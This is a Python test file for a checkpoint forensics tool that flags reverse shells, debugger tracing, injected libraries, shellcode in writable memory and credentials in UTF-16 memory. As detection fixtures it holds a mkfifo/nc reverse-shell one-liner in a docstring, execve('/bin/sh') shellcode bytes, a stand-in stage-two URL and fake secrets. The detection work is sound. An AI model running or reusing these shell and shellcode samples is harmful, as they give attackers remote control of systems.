"""Findings about processes: each once where it is, and not where it is not."""
import json
import os
import pathlib
import re
import subprocess
import tempfile
import unittest

from made_checkpoint import MAGIC, OWNER, PAGE, REG, area, image, make_processes, message, regular, write_images

EXHIBIT = os.environ["EXHIBIT"]
PIPE, INETSK, UNIXSK = 2, 4, 5


def pipe(id, number):
    return message(f1=PIPE, f2=id, f18=message(f1=id, f2=number, f3=0, f4=OWNER))


def tcp(id, address=0x0100007F, port=4444, state=1):
    socket = message(f1=id, f2=id, f3=2, f4=1, f5=6, f6=state, f7=40000, f8=port, f9=2, f10=0,
                     f11=[0x0100007F], f12=[address], f13=OWNER, f14=message(f1=1, f2=1, f3=0, f4=0, f5=0, f6=0))
    return message(f1=INETSK, f2=id, f4=socket)


class Made(unittest.TestCase):
    def setUp(self):
        self.there = tempfile.TemporaryDirectory()
        self.root = self.there.name

    def tearDown(self):
        self.there.cleanup()

    def dump(self, processes, files, spec=None):
        make_processes(self.root, processes, files, spec)

    def findings(self, which):
        out = subprocess.run([EXHIBIT, "checkpoint", self.root, "findings", "--json"],
                             stdout=subprocess.PIPE, check=True).stdout
        return [f for f in json.loads(out) if f["id"] == which]

    # -- shells ------------------------------------------------------------------------

    SH = {"exe": 1, "comm": b"sh", "argv": [b"sh"]}

    def test_shell_on_a_socket(self):
        self.dump({1: {**self.SH, "fds": {0: (INETSK, 9), 1: (INETSK, 9)}}}, [regular(1, b"/bin/dash"), tcp(9)])
        (f,) = self.findings("process.shell-on-socket")
        self.assertEqual(f["arguments"]["connection"], "tcp 127.0.0.1:40000 -> 127.0.0.1:4444 established")

    def test_shell_behind_pipes_of_a_program_with_a_connection(self):
        """mkfifo p; sh < p | nc HOST PORT > p"""
        nc = {"exe": 2, "comm": b"nc", "argv": [b"nc"], "fds": {0: (PIPE, 6), 1: (PIPE, 5), 3: (INETSK, 9)}}
        shell = {**self.SH, "fds": {0: (PIPE, 5), 1: (PIPE, 6)}}
        files = [regular(1, b"/bin/dash"), regular(2, b"/usr/bin/nc"), pipe(5, 100), pipe(6, 200), tcp(9)]
        self.dump({1: shell, 2: nc}, files)
        (f,) = self.findings("process.shell-on-socket")
        self.assertEqual((f["arguments"]["through"], f["arguments"]["program"]), ("pid 2", "nc"))
        # The same without a connection, or with a listener only, is a pipeline.
        self.dump({1: shell, 2: {**nc, "fds": {0: (PIPE, 6), 1: (PIPE, 5)}}}, files)
        self.assertEqual(self.findings("process.shell-on-socket"), [])
        self.dump({1: shell, 2: nc}, files[:4] + [tcp(9, 0, 0, 10)])
        self.assertEqual(self.findings("process.shell-on-socket"), [])

    # -- debuggers ---------------------------------------------------------------------

    def test_debugger_and_its_traces(self):
        self.dump({1: {"exe": 1, "comm": b"gdb", "argv": [b"gdb"]},
                   2: {"exe": 2, "comm": b"app", "argv": [b"app"], "personality": 0x40000},
                   3: {"exe": 2, "comm": b"app", "argv": [b"app"]}},
                  [regular(1, b"/usr/bin/gdb"), regular(2, b"/usr/bin/app")])
        self.assertEqual([f["subject"] for f in self.findings("process.trace")], ["pid 1 (gdb)", "pid 2 (app)"])

    def test_memory_of_another_process(self):
        own, other = regular(8, b"/proc/1/mem"), regular(9, b"/proc/2/mem")
        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"], "fds": {3: (REG, 8), 4: (REG, 9)}}},
                  [regular(1, b"/usr/bin/app"), own, other])
        (f,) = self.findings("process.other-memory-open")
        self.assertEqual((f["arguments"]["target"], f["arguments"]["fd"]), ("/proc/2/mem", "4"))

    # -- memory ------------------------------------------------------------------------

    def test_library_from_a_temporary_folder(self):
        at = 0x7F0000000000
        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"],
                       "areas": [area(at, at + PAGE, 1, 2, 0x41, 0, 2), area(at + PAGE, at + 2 * PAGE, 5, 2, 0x41, PAGE, 2),
                                 area(at + PAGE * 4, at + 5 * PAGE, 5, 2, 0x41, 0, 3)]}},
                  [regular(1, b"/usr/bin/app"), regular(2, b"/dev/shm/.x.so"), regular(3, b"/usr/lib/libc.so.6")])
        (f,) = self.findings("process.library-from-temporary-folder")
        self.assertEqual(f["arguments"]["area"], "/dev/shm/.x.so")

    def test_what_is_in_writable_and_executable_memory(self):
        at = 0x7F0000000000
        code = bytes(64) + bytes.fromhex("4831f65648bf2f62696e2f2f736857545f6a3b58990f05")
        app = {"exe": 1, "comm": b"app", "argv": [b"app"], "areas": [area(at, at + PAGE, 7)]}
        self.dump({1: {**app, "pages": {at: code}}}, [regular(1, b"/usr/bin/app")])
        (f,) = self.findings("process.writable-executable-memory")
        a = f["arguments"]
        self.assertEqual((a["content"], a["bytes_used"]), ("data", "23"))
        self.assertEqual(a["signs_of_code"], "system call, path of a shell, as a number")
        self.dump({1: {**app, "pages": {at: b"\x7fELF\2\1\1"}}}, [regular(1, b"/usr/bin/app")])
        (f,) = self.findings("process.writable-executable-memory")
        self.assertEqual(f["arguments"]["content"], "an ELF header")

    # -- what is printed ---------------------------------------------------------------

    def shown(self, what, *options):
        return subprocess.run([EXHIBIT, "checkpoint", self.root, what, *options], stdout=subprocess.PIPE,
                              check=True).stdout.decode()

    def test_names_make_no_lines(self):
        forged = b"x\n      9       1       0     1  sshd"
        self.dump({1: {"exe": 1, "comm": b"a\n  1", "argv": [b"app", forged]}}, [regular(1, b"/bin/a\nb")])
        for what in ("ps", "files", "maps"):
            lines = self.shown(what).splitlines()
            self.assertFalse([l for l in lines if l.lstrip().startswith(("9 ", "1\t", "b "))], what)
        self.assertIn("a\\n  1", self.shown("ps"))

    def test_control_groups_with_limits(self):
        limit = lambda name, value: message(f1=name, f2=value)
        inner = message(f1=b"ctr", f3=[limit(b"memory.max", b"1048576"), limit(b"cgroup.procs", b"1"), limit(b"io.max", b"")])
        tree = message(f1=b"kubepods/pod1", f2=[message(f1=b"other", f3=limit(b"memory.max", b"5")), inner])
        groups = message(f1=[message(f1=2, f2=message(f1=b"", f2=b"/kubepods/pod1/ctr")),
                             message(f1=3, f2=message(f1=b"", f2=b"/"))],
                         f2=message(f1=b"", f2=tree))
        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"]}, 5: {"exe": 1, "comm": b"app", "argv": [b"app"]}},
                  [regular(1, b"/bin/app")])
        core = lambda task, thread: image(MAGIC["core"], message(
            f1=1, f3=message(f1=1, f2=0, f6=b"app", **task), f5=message(f1=0, f2=0, **thread)))
        # Before it moved to the thread, the set was the task's.
        write_images(os.path.join(self.root, "checkpoint"), cgroup=image(0x59383330, groups),
                     core__1=core({"f9": 2}, {}), core__5=core({}, {"f16": 2}))
        sets = json.loads(self.shown("cgroups", "--json"))
        self.assertEqual([(s["set"], s["processes"]) for s in sets], [(2, [1, 5]), (3, [])])
        (group,) = sets[0]["groups"]
        self.assertEqual((group["path"], group["limits"]), ("/kubepods/pod1/ctr", {"memory.max": "1048576"}))
        self.assertNotIn("limits", sets[1]["groups"][0])

    # -- UTF-16 ------------------------------------------------------------------------

    def test_what_stands_in_utf16(self):
        at, key = 0x7F0000000000, "AKIA" + "Z7Q4M2X9K5B8T3LR"
        text = "password=Tr0ub4dor&3x and https://evil.example.com/stage2 " + key
        app = {"exe": 1, "comm": b"app", "argv": [b"app"], "areas": [area(at, at + PAGE)]}
        for encoding, shift in (("utf-16-le", 16), ("utf-16-be", 16), ("utf-16-le", 17), ("utf-16-be", 23)):
            with self.subTest(encoding, shift=shift):
                self.dump({1: {**app, "pages": {at: bytes(shift) + text.encode(encoding)}}}, [regular(1, b"/bin/app")])
                place = lambda s: hex(at + shift + 2 * text.index(s) + (encoding == "utf-16-be"))
                have = {f["arguments"]["kind"]: f["arguments"] for f in self.findings("memory.credential")}
                self.assertEqual({k: v["address"] for k, v in have.items()},
                                 {"password": place("Tr0"), "aws-access-key": place(key)})
                self.assertEqual({v["encoding"] for v in have.values()}, {"UTF-16"})
                (url,) = self.findings("memory.indicator")
                self.assertEqual((url["subject"], url["arguments"]["address"]),
                                 ("https://evil.example.com/stage2", place("https")))
        # Letters with something else than zeros between them, and a text too short, are none.
        for page in (text.encode("utf-16-le").replace(b"\0", b"\1"), "AKIAZ7Q".encode("utf-16-le")):
            self.dump({1: {**app, "pages": {at: page}}}, [regular(1, b"/bin/app")])
            self.assertEqual(self.findings("memory.credential") + self.findings("memory.indicator"), [])

    def test_secrets_in_utf16_are_masked_everywhere(self):
        at, secret = 0x7F0000000000, "Tr0ub4dor&3x"
        page = bytes(16) + ("password=%s and more" % secret).encode("utf-16-le")
        self.dump({1: {"exe": 1, "comm": b"app", "argv": [b"app"], "areas": [area(at, at + PAGE)], "pages": {at: page}}},
                  [regular(1, b"/bin/app")])
        elsewhere = tempfile.TemporaryDirectory()
        self.addCleanup(elsewhere.cleanup)
        out = os.path.join(elsewhere.name, "out")
        subprocess.run([EXHIBIT, "analyze", self.root, "-o", out, "--quiet"], check=False)
        printed = [subprocess.run([EXHIBIT, *command], stdout=subprocess.PIPE).stdout for command in (
            ["checkpoint", self.root, "search", "re:d.=.T"], ["checkpoint", self.root, "strings"],
            ["show", self.root, "checkpoint/pages-1.img@16+80"])]
        outputs = printed + [pathlib.Path(out, name).read_bytes() for name in sorted(os.listdir(out))]
        self.assertTrue(all(printed))
        # However the zeros between the letters are written.
        spelled = re.compile(b".{0,6}".join(re.escape(c.encode()) for c in secret[:7]), re.S)
        self.assertEqual([o[:200] for o in outputs if spelled.search(o)], [])
        self.assertTrue([o for o in outputs if b"password 23 bytes" in o])

    # -- arguments ---------------------------------------------------------------------

    def test_first_process_against_the_specification(self):
        spec = {"ociVersion": "1.0.2", "process": {"args": ["/usr/bin/app", "--serve"]}}
        app = {"exe": 1, "comm": b"app", "argv": [b"/usr/bin/app", b"--serve"]}
        self.dump({1: app, 2: {**app, "ppid": 1, "argv": [b"other"]}}, [regular(1, b"/usr/bin/app")], spec)
        self.assertEqual(self.findings("process.arguments-differ"), [])
        self.dump({1: {**app, "argv": [b"/usr/bin/app", b"--mine"]}}, [regular(1, b"/usr/bin/app")], spec)
        (f,) = self.findings("process.arguments-differ")
        self.assertEqual(f["arguments"]["specified"], "/usr/bin/app --serve")

    def test_what_several_processes_hold_is_told_once(self):
        held = {"exe": 1, "comm": b"app", "argv": [b"app"], "fds": {3: (10, 7)}}
        packet = message(f1=10, f2=7, f6=message(f1=7, f2=3, f3=0x300, f4=0, f5=0, f6=OWNER,
                                                 f7=message(f1=1, f2=1, f3=0, f4=0, f5=0, f6=0), f8=0, f9=0, f10=0,
                                                 f11=0, f12=0, f13=0, f14=0, f15=0))
        self.dump({1: held, 2: {**held, "ppid": 1}}, [regular(1, b"/usr/bin/app"), packet])
        (f,) = self.findings("process.packet-socket")
        self.assertEqual(f["arguments"]["pids"], "1 2")


if __name__ == "__main__":
    unittest.main()
